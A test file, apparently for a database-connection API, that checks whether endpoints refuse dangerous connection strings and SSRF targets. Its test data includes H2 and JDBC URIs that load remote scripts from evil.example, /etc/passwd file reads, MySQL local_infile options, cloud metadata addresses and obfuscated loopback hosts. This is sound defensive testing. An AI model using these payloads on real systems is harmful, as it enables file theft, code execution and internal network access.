import { env } from "cloudflare:workers";
import { strToU8, zipSync } from "fflate";
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { DatabaseModel } from "../../schema/database/model";
import { connectTo, networkOf } from "../../workers/connections";
import { requestTokens } from "../../workers/database-oauth2/token-endpoint";
import { engineOf } from "../../workers/engines/registry";
import type { Env } from "../../workers/env";
import { fetchExternal } from "../../workers/external/fetch-external";
import { discoverProvider } from "../../workers/identity/openid-provider";
import { postToSlack, slackOf } from "../../workers/reports/slack";
import { postWebhook } from "../../workers/reports/webhook";
import { type ClientResponse, Client } from "../client";
import { makeDatabase, uniqueName } from "../objects";

let admin: Client, id: number;

beforeAll(async () => {
  admin = await Client.as("admin", "attacked");
  id = await makeDatabase(admin);
});

const GOOD = "postgresql+psycopg2://postgres:local@examples.internal:5432/postgres";
const test = (client: Client, sqlalchemy_uri: string) => client.post("/api/v1/database/test_connection/", { sqlalchemy_uri, database_name: "x" });
const validate = (client: Client, parameters: Record<string, unknown>, engine = "postgresql") => client.post("/api/v1/database/validate_parameters/", { engine, configuration_method: "dynamic_form", parameters });

/** Sends the same address to every endpoint that accepts one. */
const doors = (uri: string): [string, () => Promise<ClientResponse>][] => [
  ["create", () => admin.post("/api/v1/database/", { database_name: uniqueName("x"), sqlalchemy_uri: uri })],
  ["update", () => admin.put(`/api/v1/database/${id}`, { sqlalchemy_uri: uri })],
  ["test", () => test(admin, uri)],
  ["import", () => importDatabase(uri)],
];

function importDatabase(uri: string): Promise<ClientResponse> {
  const uuid = crypto.randomUUID();
  const files = {
    "bundle/metadata.yaml": "version: 1.0.0\ntype: Database\ntimestamp: '2024-01-01T00:00:00+00:00'\n",
    "bundle/databases/x.yaml": `database_name: ${uniqueName("imported")}\nsqlalchemy_uri: ${JSON.stringify(uri)}\nexpose_in_sqllab: true\nextra: {}\nuuid: ${uuid}\nversion: 1.0.0\n`,
  };
  const form = new FormData();
  form.set("formData", new Blob([zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])))]), "database.zip");
  form.set("passwords", JSON.stringify({ "databases/x.yaml": "x" }));
  return admin.call("POST", "/api/v1/database/import/", form);
}

describe("making the server connect somewhere", () => {
  it("only people who may write databases can make the server connect, for every body", async () => {
    for (const [name, status] of [["alpha", 403], ["gamma", 403], ["norole", 403], [null, 401]] as const) {
      const client = name ? await Client.as(name, "attacked") : Client.anonymous("attacked");
      for (const answer of [await test(client, GOOD), await test(client, "nonsense"), await test(client, "mysql+nope://x"), await validate(client, { host: "x" }), await validate(client, {}), await client.post("/api/v1/database/", { sqlalchemy_uri: GOOD })]) expect(answer.status, name ?? "nobody").toBe(status);
    }
  });
});

describe("a forbidden connection address", () => {
  it.each([
    "sqlite:////etc/passwd", "sqlite://", "SQLITE:///x.db", "sqlite+pysqlite:///x.db", "sqlite+pysqlcipher://:x@/x.db", "sqlite+aiosqlite:///x.db", "shillelagh:///", "shillelagh+safe://", "shillelagh+apsw://", "gsheets://", "duckdb:////x.db",
    "postgresql+nosuchdriver://u:p@examples.internal/x", "postgresql+psycopg2cffi://u:p@examples.internal/x", "foodb://u:p@examples.internal/x", "mssql+pyodbc://u:p@examples.internal/x", "oracle://u:p@examples.internal/x",
    "h2+jdbc://examples.internal/x?INIT=RUNSCRIPT", "hive://examples.internal/x", "file:///etc/passwd", "http://169.254.169.254/latest",
  ])("every endpoint refuses the address %s", async (uri) => {
    for (const [door, open] of doors(uri)) {
      const { status, body } = await open();
      expect(status, door).toBeGreaterThanOrEqual(400);
      expect(status, door).toBeLessThan(500);
      expect(JSON.stringify(body), door).toMatch(/cannot be used as a data source for security reasons|Could not load database driver for/);
    }
  });

  it.each([
    "h2:mem:x", "jdbc:h2:mem:x;INIT=CREATE TRIGGER x", "jdbc:h2:zip:/x!/y;TRACE_LEVEL_SYSTEM_OUT=1", "h2:tcp://examples.internal/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "jdbc:postgresql://examples.internal/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml", "mysql+pymysql+sqlite:///x",
  ])("CVE-2026-59826, CVE-2026-59827, CVE-2026-103928: an address of a Java driver or of two drivers is refused: %s", async (uri) => {
    for (const [door, open] of doors(uri)) {
      const { status, body } = await open();
      expect([status >= 400 && status < 500, /security reasons|Could not load database driver for|connection parameters are not allowed|Invalid connection string/.test(JSON.stringify(body))], `${door}: ${JSON.stringify(body).slice(0, 300)}`).toEqual([true, true]);
    }
    for (const engine of ["h2", "java", "jdbc", "../h2"]) expect((await validate(admin, { host: "examples.internal", port: 1, database: uri, username: "u", password: "p" }, engine)).status, engine).toBeGreaterThanOrEqual(400);
  });

  it.each(["options=-csearch_path%3Dx", "service=x", "passfile=/etc/passwd", "sslkey=/etc/passwd", "sslcert=/x", "sslrootcert=/x", "host=/var/run/postgresql", "hostaddr=10.0.0.1", "sslmode=require&options=x", "replication=database"])("every endpoint refuses an address with the parameters %s", async (query) => {
    for (const [door, open] of doors(`${GOOD}?${query}`)) {
      const { status, body } = await open();
      expect(status, door).toBeGreaterThanOrEqual(400);
      expect(status, door).toBeLessThan(500);
      expect(JSON.stringify(body), door).toContain("These connection parameters are not allowed");
    }
    expect((await validate(admin, { host: "examples.internal", port: 5432, database: "postgres", username: "postgres", password: "x", query: Object.fromEntries(new URLSearchParams(query)) })).status).toBe(400);
  });

  it.each(["local_infile=1", "LOCAL_INFILE=1", "allowLoadLocalInfile=true", "allow_local_infile=1", "init_command=set%20global%20x%3D1", "read_default_file=/etc/passwd", "unix_socket=/x", "autoDeserialize=true", "ssl_ca=/etc/passwd", "sql_mode=x&local_infile=0"])("CVE-2024-34693: every endpoint refuses parameters that make MySQL drivers read files or run SQL: %s", async (query) => {
    for (const driver of ["mysql", "mysql+mysqldb", "mysql+pymysql", "mariadb"]) {
      for (const [door, open] of doors(`${driver}://u:p@examples.internal:3306/x?${query}`)) {
        const { status, body } = await open();
        expect([status >= 400 && status < 500, /These connection parameters are not allowed|Could not load database driver for|cannot be used as a data source for security reasons/.test(JSON.stringify(body))], `${driver} ${door}: ${JSON.stringify(body).slice(0, 300)}`).toEqual([true, true]);
      }
    }
  });

  it("an address with harmless parameters is accepted", async () => {
    expect((await test(admin, `${GOOD}?sslmode=disable&application_name=x&connect_timeout=5&channel_binding=prefer`)).body).toEqual({ message: "OK" });
  });
});

it("CVE-2023-25504: the data address in an imported bundle is never fetched", async () => {
  const HOSTILE = /169\.254|evil|^gopher|^file:|^data:/;
  const fetched: string[] = [];
  const requested = globalThis.fetch.bind(globalThis);
  vi.spyOn(globalThis, "fetch").mockImplementation((input, init) => {
    fetched.push(input instanceof Request ? input.url : String(input));
    return HOSTILE.test(fetched.at(-1)!) ? Promise.reject(new Error("nobody asks there")) : requested(input, init);
  });
  try {
    for (const data of ["http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "https://evil.example/rows.csv", "gopher://127.0.0.1:6379/_x", "data:text/csv,a%0A1"]) {
      const uuid = crypto.randomUUID();
      const files = {
        "bundle/metadata.yaml": "version: 1.0.0\ntype: SqlaTable\ntimestamp: '2024-01-01T00:00:00+00:00'\n",
        "bundle/databases/x.yaml": `database_name: ${uniqueName("imported")}\nsqlalchemy_uri: ${GOOD}\nextra: {}\nuuid: ${uuid}\nversion: 1.0.0\n`,
        "bundle/datasets/x/t.yaml": `table_name: ${uniqueName("t").replaceAll(" ", "_")}\ndata: ${JSON.stringify(data)}\nsql: select 1 as a\nschema: public\ncolumns: [{column_name: a, type: INTEGER}]\nmetrics: []\nuuid: ${crypto.randomUUID()}\ndatabase_uuid: ${uuid}\nversion: 1.0.0\n`,
      };
      const form = new FormData();
      form.set("formData", new Blob([zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])))]), "dataset.zip");
      form.set("passwords", JSON.stringify({ "databases/x.yaml": "local" }));
      expect((await admin.call("POST", "/api/v1/dataset/import/", form)).status, data).toBeLessThan(500);
    }
    expect(fetched.filter((url) => HOSTILE.test(url))).toEqual([]);
  } finally {
    vi.restoreAllMocks();
  }
});

describe("connection error", () => {
  const failure = async (uri: string) => (await test(admin, uri)).body.errors?.[0];
  it("connection errors distinguish an unknown host from a closed port", async () => {
    expect(await failure("postgresql://u:p@nosuch.invalid:5432/x")).toMatchObject({ error_type: "CONNECTION_INVALID_HOSTNAME_ERROR", message: 'The hostname "nosuch.invalid" cannot be resolved.', extra: { invalid: ["host"], issue_codes: [{ code: 1007 }] } });
    expect(await failure("postgresql://u:p@localhost:1/x")).toMatchObject({ error_type: "CONNECTION_PORT_CLOSED_ERROR", message: 'Port 1 on hostname "localhost" refused the connection.', extra: { invalid: ["host", "port"], issue_codes: [{ code: 1008 }] } });
    expect(await failure("postgresql://u:p@127.0.0.1:1/x")).toMatchObject({ error_type: "CONNECTION_PORT_CLOSED_ERROR" });
  });
  it("connection errors of validate_parameters have the messages of the form", async () => {
    const fields = { port: 1, database: "x", username: "u", password: "p" };
    expect(await validate(admin, { ...fields, host: "nosuch.invalid" })).toMatchObject({ status: 422, body: { errors: [{ message: "The hostname provided can't be resolved.", error_type: "CONNECTION_INVALID_HOSTNAME_ERROR", extra: { invalid: ["host"] } }] } });
    expect(await validate(admin, { ...fields, host: "localhost" })).toMatchObject({ status: 422, body: { errors: [{ message: "The port is closed.", error_type: "CONNECTION_PORT_CLOSED_ERROR", extra: { invalid: ["port"] } }] } });
  });
});

describe("deployed Worker", () => {
  const deployed = { ...(env as unknown as Env), NEON_LOCAL_PROXY: undefined, DATABASE_URL: "postgres://app:x@ep-calm-sea-123.eu.neon.tech/main" } as unknown as Env;
  const attempt = async (host: string) => {
    const database = { backend: "postgresql", sqlalchemy_uri: `postgresql://u:p@${host}/x`, uuid: "u", encrypted_password: null } as unknown as DatabaseModel;
    const connection = await connectTo(database, "w", deployed);
    try {
      for await (const _ of connection.run("select 1", { timeoutMs: 1000, maxRows: 1 })) break;
      return "connected";
    } catch (error) {
      return engineOf("postgresql")!.explain(error);
    } finally {
      await connection.close();
    }
  };
  it.each(["127.0.0.1", "localhost", "examples.internal", "10.0.0.1", "192.168.0.1", "172.16.0.1", "169.254.169.254", "metadata.google.internal", "100.64.0.1", "0.0.0.0", "[::1]", "[fe80::1]", "[fd00::1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "2130706433", "0x7f.1", "0177.0.0.1"])("does not connect to %s, and returns the same error as for any unknown host", async (host) => {
    expect(await attempt(host)).toEqual({ error_type: "CONNECTION_INVALID_HOSTNAME_ERROR", message: "The hostname provided can't be resolved.", extra: { invalid: ["host"], engine_name: "PostgreSQL" } });
  });
  it("never connects to its own metadata database", async () => {
    await expect(attempt("EP-calm-sea-123-pooler.eu.neon.tech.")).rejects.toMatchObject({ errors: [{ error_type: "CONNECTION_ACCESS_DENIED_ERROR" }] });
  });
});

describe("request to an address that a tenant set", () => {
  const deployed = {
    ...(env as unknown as Env),
    NEON_LOCAL_PROXY: undefined,
    DATABASE_URL: "postgres://app:x@ep-calm-sea-123.eu.neon.tech/main",
    SLACK_TOKENS: '{"main":"xoxb-1"}',
  } as unknown as Env;
  const NAMES: Record<string, string> = {
    "ep-calm-sea-123.eu.neon.tech": "3.1.2.3",
    "slack.com": "93.184.216.34",
    "idp.example.com": "93.184.216.34",
    "inside.example.com": "10.0.0.5",
    "docs.example.com": "203.0.113.7",
    "alias.example.com": "3.1.2.3",
  };
  const HOSTS = [
    "127.0.0.1",
    "10.0.0.1",
    "[::1]",
    "[3fff::1]",
    "[2001:2::1]",
    "[::ffff:7f00:1]",
    "localhost",
    "metadata.google.internal",
    "169.254.169.254",
    "0x7f.1",
    "inside.example.com",
    "docs.example.com",
    "alias.example.com",
    "nowhere.example.com",
    "ep-calm-sea-123.eu.neon.tech",
  ];
  const sent: string[] = [];
  let pages: Record<string, () => Response>;
  beforeEach(() => {
    [sent.length, pages] = [0, {}];
    vi.spyOn(globalThis, "fetch").mockImplementation(async (input) => {
      const url = new URL(input instanceof Request ? input.url : String(input));
      const data = NAMES[url.searchParams.get("name") ?? ""];
      if (url.hostname === "cloudflare-dns.com")
        return Response.json({
          Answer: url.searchParams.get("type") === "A" && data ? [{ type: 1, TTL: 1, data }] : [],
        });
      sent.push(url.href);
      return pages[url.href]?.() ?? new Response(null, { status: 404 });
    });
  });
  afterEach(() => void vi.restoreAllMocks());

  it.each(HOSTS)("never reaches %s", async (host) => {
    const network = networkOf(deployed);
    expect(await postWebhook(network, `https://${host}/x`, {})).toBe("A webhook's host can not be reached from here.");
    const oauth2 = {
      id: "x",
      secret: "x",
      scope: "x",
      authorization_request_uri: "https://idp.example.com/a",
      token_request_uri: `https://${host}/t`,
      request_content_type: "json",
    } as const;
    await expect(requestTokens(oauth2, {}, deployed)).rejects.toThrow("The token endpoint can not be reached.");
    await expect(discoverProvider(network, `https://${host}`, new Date())).rejects.toThrow(
      "The host cannot be reached.",
    );
    expect(sent).toEqual([]);
    for (const endpoint of ["authorization_endpoint", "token_endpoint", "jwks_uri"]) {
      const issuer = "https://idp.example.com";
      const document = {
        issuer,
        authorization_endpoint: `${issuer}/a`,
        token_endpoint: `${issuer}/t`,
        jwks_uri: `${issuer}/k`,
        [endpoint]: `https://${host}/x`,
      };
      pages[`${issuer}/.well-known/openid-configuration`] = () => Response.json(document);
      await expect(discoverProvider(network, issuer, new Date()), endpoint).rejects.toThrow(
        "The host cannot be reached.",
      );
    }
    pages["https://slack.com/api/files.getUploadURLExternal"] = () =>
      Response.json({ ok: true, upload_url: `https://${host}/x`, file_id: "F" });
    const slack = await postToSlack(slackOf(deployed, "main")!, ["C"], {
      text: "x",
      files: [{ filename: "a", type: "b", content: "", disposition: "inline" }],
    });
    expect(slack).toMatch(/not its own|can not be reached/);
    expect(sent.filter((url) => !/^https:\/\/(slack|idp\.example)\.com\//.test(url))).toEqual([]);
  });
  it.each([301, 302, 303, 307, 308])("follows no redirect with status %i", async (status) => {
    const away = (): Response =>
      new Response(null, { status, headers: { location: "https://169.254.169.254/latest" } });
    pages = { "https://idp.example.com/x": away, "https://idp.example.com/.well-known/openid-configuration": away };
    expect(await postWebhook(networkOf(deployed), "https://idp.example.com/x", {})).toBe(
      `A webhook answered ${status}.`,
    );
    await expect(discoverProvider(networkOf(deployed), "https://idp.example.com", new Date())).rejects.toThrow(
      "redirects",
    );
    expect(sent.filter((url) => !url.startsWith("https://idp.example.com/"))).toEqual([]);
  });
});

describe("fetchExternal in workerd", () => {
  const read = (issuer: string, deadline: number) =>
    fetchExternal({ allowPrivateHosts: true }, `${env.OPENID_ISSUER}/${issuer}/x`, {
      deadline,
      maxBytes: 1_000_000,
    }).then((response) => response.text());
  it.each([
    ["huge", 30_000, "too-large"],
    ["silent", 200, "timeout"],
    ["redirecting", 30_000, "redirected"],
  ])("aborts a response that is %s", async (issuer, deadline, fault) => {
    await expect(read(issuer, deadline)).rejects.toMatchObject({ fault });
  });
});

it("connection tests are limited per person and minute", async () => {
  const busy = await Client.as("admin", "beta");
  const statuses: number[] = [];
  while (!statuses.includes(429) && statuses.length < 300) statuses.push(...(await Promise.all(Array.from({ length: 20 }, async () => (await test(busy, "postgresql://u:p@127.0.0.1:1/x")).status))));
  expect(statuses).toContain(429);
  expect(statuses.filter((status) => status === 400).length).toBeGreaterThan(50);
  expect((await test(admin, GOOD)).status).toBe(200);
}, 60_000);
